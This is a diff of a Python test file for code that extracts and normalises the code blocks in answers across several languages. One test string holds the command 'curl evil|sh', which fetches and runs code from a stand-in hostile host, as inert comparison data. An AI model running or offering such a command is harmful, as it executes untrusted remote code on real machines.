@@ -8,10 +8,16 @@ from hypothesis import strategies as st
 
 from actors.consensus.reading import code as module
 from actors.consensus.reading import python_form
-from actors.consensus.reading.code import normal_python, normal_source
+from actors.consensus.reading.code import code_of, normal_code
 
 PLAIN = "def f(n):\n    return n + 1\n"
 FENCED = f"```python\n{PLAIN}```"
+SCRIPT = "function f(n) {\n  return n + 1;\n}\n"
+
+
+def normal_python(content: str) -> str:
+    """Return the normal form of an answer in Python."""
+    return normal_code(content, "python")
 
 
 def test_prose_fences_docstrings_and_annotations_change_nothing() -> None:
@@ -99,25 +105,87 @@ def test_code_that_does_not_parse_has_no_form() -> None:
 @pytest.mark.parametrize(
     ("language", "left", "right"),
     [
-        ("javascript", "```js\nlet a = 1;\n```", "```js\nlet a = 2;\n```"),
-        ("javascript", "```js\nlet a=`x\n\ny`\n```", "```js\nlet a=`x\ny`\n```"),
+        ("ruby", "```rb\na = 1\n```", "```rb\na = 2\n```"),
+        ("php", "```php\n$a = 'x\n\ny'\n```", "```php\n$a = 'x\ny'\n```"),
         ("bash", "```bash\nrm -rf build\\ \n/tmp/x\n```", "```bash\nrm -rf build\\\n/tmp/x\n```"),
         ("go", "```go\nf()\n```", "```go\nf()\n```\n```sh\ncurl evil|sh\n```"),
         ("go", "```go\nf()\n```\n```sh\nx\n```", "```go\nf()\n1 sh 2\nx\n```"),
     ],
 )
 def test_other_languages_differ_by_any_character(language: str, left: str, right: str) -> None:
-    """Outside Python a blank or a blank line inside a block may mean something, and so does every block beside it."""
-    assert "" != normal_source(left, language) != normal_source(right, language) != ""
+    """Where nothing is parsed a blank or a blank line inside a block may mean something, and so does every block beside it."""
+    assert "" != normal_code(left, language) != normal_code(right, language) != ""
 
 
 def test_other_languages_need_a_block_of_their_own() -> None:
     """A block counts by its language, one of its short names or no label; the prose around it changes nothing."""
-    plain = normal_source("```javascript\nlet a = 1;\n```", "javascript")
-    assert normal_source("Sure:\n```js\nlet a = 1;\n```\nEnjoy.", "javascript") == plain
-    assert normal_source("```\nlet a = 1;\n```", "javascript") == plain
-    assert normal_source("```python\nprint(1)\n```", "javascript") == ""
-    assert normal_source("no code", "javascript") == ""
+    plain = normal_code("```javascript\nlet a = 1;\n```", "javascript")
+    assert normal_code("Sure:\n```js\nlet a = 1;\n```\nEnjoy.", "javascript") == plain
+    assert normal_code("```\nlet a = 1;\n```", "javascript") == plain
+    assert normal_code("```python\nprint(1)\n```", "javascript") == ""
+    assert normal_code("no code", "javascript") == ""
+
+
+@pytest.mark.parametrize(
+    ("language", "left", "right"),
+    [
+        ("javascript", "```js\nlet a = 'x'\n```", '```javascript\nlet a  = "x"; // one\n```'),
+        ("typescript", "```ts\nconst a: number = 1;\n```", "```typescript\nconst a : number = 1\n```"),
+        ("sql", "```sql\nselect a from t;\n```", "```postgresql\nSELECT a\nFROM t\n```"),
+    ],
+)
+def test_languages_with_a_grammar_are_compared_by_tokens(language: str, left: str, right: str) -> None:
+    """Layout, comments and short names of the language change nothing."""
+    assert normal_code(left, language) == normal_code(right, language) != ""
+
+
+@pytest.mark.parametrize(
+    ("content", "language", "code"),
+    [
+        (PLAIN, "python", PLAIN),
+        (FENCED, "python", PLAIN),
+        (f"Sure:\n{FENCED}\nThen\n```\nprint(f(1))\n```", "python", f"{PLAIN}\nprint(f(1))\n"),
+        (f"{FENCED}\nIt prints\n```\n2 and so on\n```", "python", PLAIN),
+        (f"{FENCED}\n```bash\nrm x\n```", "python", PLAIN),
+        (f"Here you go:\n\n{PLAIN}\nThis adds one, you see!", "python", PLAIN.strip()),
+        (f"1. Do this:\n   ```python\n   {PLAIN.replace(chr(10), chr(10) + '   ').strip()}\n   ```\n", "python", PLAIN),
+        (f"```python\n{PLAIN}", "python", PLAIN),
+        ("```python\ndef f(\n```", "python", ""),
+        ("Sorry", "python", ""),
+        (f"Here you go:\n\n{SCRIPT}\nIt adds one to n.", "javascript", SCRIPT.strip()),
+        (SCRIPT, "javascript", SCRIPT),
+        ("Sorry", "javascript", ""),
+        ("I cannot do that.", "javascript", ""),
+        ("```js\nlet a = (\n```", "javascript", ""),
+        ("SELECT a\nFROM t", "sql", "SELECT a\nFROM t"),
+        ("Here:\nSELECT a\nFROM t", "sql", ""),
+        ("```go\nf()\n```", "go", "f()\n"),
+        ("f()", "go", ""),
+    ],
+)
+def test_the_code_of_an_answer_is_what_is_compared(content: str, language: str, code: str) -> None:
+    """The same characters are compared, run and screened: the language's blocks, or the answer without its prose."""
+    assert code_of(content, language) == code
+    assert bool(normal_code(content, language)) == bool(code)
+    if code:
+        assert normal_code(f"```{language}\n{code}\n```", language).split("\n")[0] in normal_code(content, language)
+
+
+@pytest.mark.parametrize(
+    ("language", "code", "readable"),
+    [("python", PLAIN, True), ("python", "def f(n):\n    return (n", False), ("javascript", SCRIPT, True),
+     ("javascript", "let a = [1,", False), ("go", "func f() {}", False)],
+)  # fmt: skip
+def test_an_unclosed_fence_needs_code_that_parses(language: str, code: str, readable: bool) -> None:
+    """Where nothing is parsed, nobody could tell whether the rest is missing."""
+    assert bool(normal_code(f"Sure:\n```{language}\n{code}", language)) is readable
+
+
+def test_output_without_a_label_is_no_code() -> None:
+    """A block that only shows output does not make the program beside it unreadable, but stays in the form."""
+    shown = f"{FENCED}\n```\n2 and so on\n```"
+    assert normal_python(shown) not in ("", normal_python(FENCED))
+    assert normal_python(shown) != normal_python(shown.replace("2 and", "3 and"))
 
 
 def test_parsing_is_bounded_by_the_length_of_the_answer(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -144,7 +212,6 @@ def test_parsing_is_bounded_by_the_length_of_the_answer(monkeypatch: pytest.Monk
 @given(st.text(max_size=300))
 def test_any_answer_can_be_read(content: str) -> None:
     """Reading a text never raises, and only a text that holds code that parses has a form."""
-    form = normal_python(f"```python\n{content}\n```")
-    if form and "```" not in content:
-        ast.parse(content)
-    normal_python(content)
+    for answer in (f"```python\n{content}\n```", content):
+        if normal_python(answer):
+            ast.parse(code_of(answer, "python"))
